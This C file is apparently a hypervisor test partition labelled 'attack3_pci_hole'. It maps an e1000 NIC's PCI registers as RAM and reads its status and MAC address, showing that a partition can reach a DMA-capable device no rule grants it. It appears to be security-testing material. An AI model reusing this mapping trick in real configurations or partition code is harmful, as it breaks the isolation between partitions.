/*
 * attack3_pci_hole, P0 (normal): its second area is "RAM" at physical 0xFEBC0000,
 * where the PCI firmware put the e1000 NIC's registers. It reads the NIC's status and
 * receive-address registers (the MAC address) through its own mapping: a device no
 * configuration rule grants it, and one that can DMA anywhere in memory.
 */
#include <prtos.h>
#include <stdio.h>

#define NIC_VA 0x40000000U
#define E1000_STATUS 0x0008
#define E1000_RAL0 0x5400
#define E1000_RAH0 0x5404

static prtos_u32_t reg(prtos_u32_t off)
{
	return *(volatile prtos_u32_t *)(NIC_VA + off);
}

void partition_main(void)
{
	prtos_u32_t lo = reg(E1000_RAL0), hi = reg(E1000_RAH0);

	printf("[Nic] status 0x%08x, MAC %02x:%02x:%02x:%02x:%02x:%02x (RAH valid %u)\n",
	       reg(E1000_STATUS), lo & 0xFF, (lo >> 8) & 0xFF, (lo >> 16) & 0xFF, lo >> 24,
	       hi & 0xFF, (hi >> 8) & 0xFF, hi >> 31);
	for (;;)
		prtos_idle_self();
}
